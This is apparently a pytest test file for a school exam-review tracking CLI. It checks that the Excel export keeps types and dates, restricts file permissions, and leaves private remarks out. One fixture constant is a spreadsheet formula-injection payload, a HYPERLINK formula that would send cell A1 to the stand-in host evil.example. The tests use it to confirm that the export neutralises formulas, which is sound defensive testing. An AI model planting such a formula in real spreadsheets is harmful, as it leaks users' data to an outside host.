"""`prs export --xlsx`: the tracking log as a real Excel workbook, read back with openpyxl."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import zipfile
from datetime import datetime

import pytest

from prs_cli.render.requests import CSV_COLUMNS
from prs_cli.render.xlsxout import CONSENT_COLUMNS, MONEY_FORMAT

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PRIVATE_REMARK = "Mum signed in the office"


def ok(result) -> str:
    assert result.exit_code == 0, result.stdout + result.stderr
    return result.stdout


@pytest.fixture
def log(cli):
    """An answered review with consent, a Service 3 sample, a draft with hostile text, and a
    consent recorded with a remark (free text that must stay out of the workbook)."""
    common = ["--today", "2026-08-14", "--ab", "AQA", "-q", "gce-a-level", "--by", "eo"]
    ok(cli("config", "set", "centre_number", "01234"))
    ok(cli("request", "add", *common, "--candidate", "0042", "--name", "Zara Quill", "--uci", "52204012345AB",
           "--component", "7402/1", "--service", "S2", "--grade", "B", "--mark", "50", "--fee", "43.45"))
    ok(cli("consent", "record", "--candidate", "0042", "--on", "13/08/2026 10:30", "--method", "form", "--covers", "S2",
           "--acknowledged-outcomes", "--series", "june-2026", "--today", "2026-08-14", "--note", PRIVATE_REMARK))
    ok(cli("request", "submit", "1", "--received", "2026-08-15", "--ref", "-AQA-1", "--today", "2026-08-15"))
    ok(cli("request", "outcome", "1", "--on", "2026-09-01", "--grade-after", "A", "--today", "2026-09-01"))
    ok(cli("request", "add", *common, "--component", "7402C", "--service", "S3"))
    ok(cli("request", "add", *common, "--candidate", "0043", "--name", "+44 7700 900123", "--component", "@7402/2",
           "--service", "S1", "--note", INJECTION, "--private", "--fee", "8.70"))


def test_the_workbook_holds_the_log_as_excel_types(cli, log, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "log.xlsx"
    answer = json.loads(ok(cli("export", "--xlsx", str(path), "--today", "2026-09-10", "--json")))
    assert answer == {"written": [{"format": "xlsx", "path": str(path), "requests": 3, "consents": 1}]}
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert sorted(os.listdir(tmp_path)) == ["log.xlsx", "prs-home"]  # no temporary file left
    book = load_workbook(path)
    assert book.sheetnames == ["Requests", "Consents", "About"]
    sheet = book["Requests"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:AG4")
    assert tuple(c.value for c in sheet[1]) == CSV_COLUMNS
    first = dict(zip(CSV_COLUMNS, sheet[2]))
    assert (first["candidate_number"].value, first["candidate_number"].data_type) == ("0042", "s")  # zeros kept
    assert first["uci"].value == "52204012345AB" and first["component"].value == "7402/1"
    assert first["fee"].value == pytest.approx(43.45) and first["fee"].number_format == MONEY_FORMAT
    # seed:000: S2 completes within 20 days of receipt (15 Aug -> 4 Sep).
    for name, day in (("request_deadline", datetime(2026, 9, 24)), ("received_on", datetime(2026, 8, 15)),
                      ("completion_due", datetime(2026, 9, 4)), ("outcome_on", datetime(2026, 9, 1))):
        assert (first[name].value, first[name].is_date, first[name].number_format) == (day, True, "dd/mm/yyyy")
    assert (first["id"].value, first["original_mark"].value, first["fee_refunded"].value) == (1, 50, "yes")
    assert first["board_reference"].value == "-AQA-1" and first["board_reference"].quotePrefix
    third = dict(zip(CSV_COLUMNS, sheet[4]))
    for name, text in (("note", INJECTION), ("candidate_name", "+44 7700 900123"), ("component", "@7402/2")):
        assert (third[name].value, third[name].data_type, third[name].quotePrefix) == (text, "s", True)
    assert third["private"].value == "yes" and third["fee"].value == pytest.approx(8.70)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere

    consents = book["Consents"]
    assert tuple(c.value for c in consents[1]) == CONSENT_COLUMNS
    row = {name: cell.value for name, cell in zip(CONSENT_COLUMNS, consents[2])}
    # seed:000: consent kept six months after the outcome (1 Sep 2026 -> 1 Mar 2027).
    assert row == {
        "consent_id": 1, "candidate_number": "0042", "series": "june-2026", "given_on": datetime(2026, 8, 13),
        "given_at": datetime(2026, 8, 13, 10, 30), "method": "form", "given_by_candidate": "yes", "covers": "S2",
        "acknowledged_outcomes": "yes", "classroom_use": None, "anonymise": None, "requests": "1",
        "recorded_on": row["recorded_on"], "keep_until": datetime(2027, 3, 1), "purged_on": None,
    }
    assert isinstance(row["recorded_on"], datetime)
    every_cell = [str(c.value) for s in book for line in s.iter_rows() for c in line if c.value is not None]
    assert not any(PRIVATE_REMARK in value for value in every_cell)
    about = {line[0].value: line[1].value for line in book["About"].iter_rows()}
    assert about["centre_number"] == "01234" and about["requests"] == 3 and about["consents"] == 1


def test_an_empty_log_still_gives_a_workbook_and_nothing_asked_is_refused(cli, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "empty.xlsx"
    assert ok(cli("export", "--xlsx", str(path))) == f"Wrote 0 requests to {path} (xlsx).\n"
    book = load_workbook(path)
    assert [book["Requests"].max_row, book["Consents"].max_row] == [1, 1]
    result = cli("export")
    assert result.exit_code == 2 and "--xlsx log.xlsx" in result.stderr


def test_openpyxl_is_loaded_only_by_the_workbook_export(prs_home, tmp_path):
    code = ("import sys\nfrom prs_cli.cli.app import main\nsys.argv = ['prs', *sys.argv[1:]]\n"
            "try:\n    main()\nexcept SystemExit:\n    pass\nprint('openpyxl' in sys.modules, file=sys.stderr)\n")
    for args, loaded in ((["export", "--csv", str(tmp_path / "a.csv")], "False"), (["deadlines"], "False"),
                         (["export", "--xlsx", str(tmp_path / "a.xlsx")], "True")):
        done = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=60,
                              env={**os.environ, "PRS_HOME": str(prs_home), "PRS_TODAY": "2026-08-14"})
        assert done.stderr.splitlines()[-1] == loaded, (args, done.stderr)
